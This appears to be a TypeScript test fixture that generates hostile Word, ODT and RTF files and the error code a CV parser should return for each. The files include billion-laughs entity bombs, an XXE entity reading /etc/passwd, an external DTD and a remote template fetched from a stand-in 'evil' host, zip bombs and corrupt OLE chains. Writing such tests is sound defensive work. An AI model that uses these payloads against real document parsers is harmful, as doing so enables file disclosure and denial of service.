import { makeOldWord } from '../../adapters/documents/doc/make-old-word.ts';
import { docxOf, macroWord, paragraph, wordBody } from '../../adapters/documents/fixtures.ts';
import { makeZip } from '../../adapters/documents/make-zip.ts';
import { makeOdt } from '../../adapters/documents/odt/make-odt.ts';
import type { HostileFile } from './hostile-file.ts';

const laughs = `<!DOCTYPE x [<!ENTITY a "haha">${[...'bcdefghij']
  .map((name, at) => `<!ENTITY ${name} "${`&${'abcdefghi'[at]};`.repeat(10)}">`)
  .join('')}]>`;
const thief = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>';
const caller = '<!DOCTYPE x SYSTEM "http://127.0.0.1:9/evil.dtd">';
const long = (megabytes: number) => paragraph('x'.repeat(megabytes * 1024 * 1024));
const anyRefusal = ['cv.unreadable', 'cv.too_heavy', 'cv.no_text', 'cv.too_long'] as const;

export const hostileOffice: readonly HostileFile[] = [
  {
    name: 'a billion laughs.docx',
    answer: 'cv.unreadable',
    make: () => docxOf({ body: paragraph('&j;'), prologue: laughs }),
  },
  {
    name: 'an entity that reads a file.docx',
    answer: 'cv.unreadable',
    make: () => docxOf({ body: paragraph('&a;'), prologue: thief }),
  },
  {
    name: 'an entity that calls out.docx',
    answer: 'cv.unreadable',
    make: () => docxOf({ body: wordBody, prologue: caller }),
  },
  {
    name: 'macros.docm',
    answer: 'file.unsupported',
    make: () => docxOf({ contentType: macroWord, body: wordBody }),
  },
  {
    name: 'a lie about its size.docx',
    answer: 'cv.unreadable',
    make: () => docxOf({ body: long(5), claimedSize: 40 }),
  },
  {
    name: 'inflates to 150 MB.docx',
    answer: 'cv.too_heavy',
    make: () => docxOf({ body: long(150) }),
    heavy: true,
  },
  {
    name: 'a paragraph of 60 MB.docx',
    answer: anyRefusal,
    make: () => docxOf({ body: long(60) }),
    heavy: true,
  },
  { name: 'five thousand parts.docx', answer: 'cv.too_heavy', make: () => manyParts() },
  { name: 'a bomb in a part that is not read.docx', answer: 'read', make: () => nested() },
  { name: 'a template from elsewhere.docx', answer: 'read', make: () => remoteTemplate() },
  {
    name: 'a hundred thousand levels.docx',
    answer: anyRefusal,
    make: () => docxOf({ body: deep('w:sdt', 100_000) }),
  },
  {
    name: 'cut in the middle.docx',
    answer: 'cv.unreadable',
    make: () => docxOf({ body: wordBody }).subarray(0, 700),
  },
  {
    name: 'a ZIP that is no Word file.docx',
    answer: 'file.unsupported',
    make: () => makeZip([{ name: 'a', bytes: Buffer.from('a') }]),
  },
  {
    name: 'a billion laughs.odt',
    answer: 'cv.unreadable',
    make: () => makeOdt({ body: '<text:p>&j;</text:p>', prologue: laughs }),
  },
  {
    name: 'a hundred thousand levels.odt',
    answer: anyRefusal,
    make: () => makeOdt({ body: deep('text:section', 100_000) }),
  },
  { name: 'under a password.odt', answer: 'cv.password', make: () => makeOdt({ body: '', encrypted: true }) },
  { name: 'chains that never end.doc', answer: anyRefusal, make: () => endlessDoc(), heavy: true },
  { name: 'a piece beyond the end.doc', answer: anyRefusal, make: () => lyingDoc() },
  {
    name: 'under a password.doc',
    answer: 'cv.password',
    make: () => makeOldWord({ text: 'x'.repeat(99), encrypted: true }),
  },
  {
    name: 'a million braces.rtf',
    answer: 'cv.unreadable',
    make: () => Buffer.from(`{\\rtf1${'{'.repeat(1_000_000)}`),
  },
  {
    name: 'data without end.rtf',
    answer: 'cv.no_text',
    make: () => Buffer.from('{\\rtf1\\bin2147483647 x}'),
  },
  {
    name: 'an object inside.rtf',
    answer: 'read',
    make: () =>
      Buffer.from(
        `{\\rtf1{\\object\\objemb{\\*\\objdata ${'4d5a'.repeat(5000)}}}Iris Montclair, soudeuse à Angers\\par}`,
      ),
  },
];

function manyParts(): Buffer {
  const parts = Object.fromEntries(Array.from({ length: 5000 }, (_, at) => [`word/${at}.xml`, '<a/>']));
  return docxOf({ body: wordBody, parts });
}

function nested(): Buffer {
  const bomb = makeZip([{ name: 'zeros', bytes: Buffer.alloc(20 * 1024 * 1024) }]).toString('latin1');
  return docxOf({ body: wordBody, parts: { 'word/embeddings/bomb.zip': bomb } });
}

function remoteTemplate(): Buffer {
  const relations =
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="t" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://127.0.0.1:9/evil.dotm" TargetMode="External"/></Relationships>';
  return docxOf({ body: wordBody, parts: { 'word/_rels/document.xml.rels': relations } });
}

function deep(element: string, levels: number): string {
  return `<${element}>`.repeat(levels) + `</${element}>`.repeat(levels);
}

/** Sectors 4 and 5 of the chains name each other. */
function endlessDoc(): Buffer {
  const word = Buffer.from(makeOldWord({ text: 'x'.repeat(5000) }));
  word.writeInt32LE(5, 512 + 4 * 4);
  word.writeInt32LE(4, 512 + 5 * 4);
  return word;
}

function lyingDoc(): Buffer {
  const word = Buffer.from(makeOldWord({ text: 'x'.repeat(5000) }));
  const information = 512 * 3;
  word.writeUInt32LE(0x7fffffff, information + 0x1a2);
  return word;
}
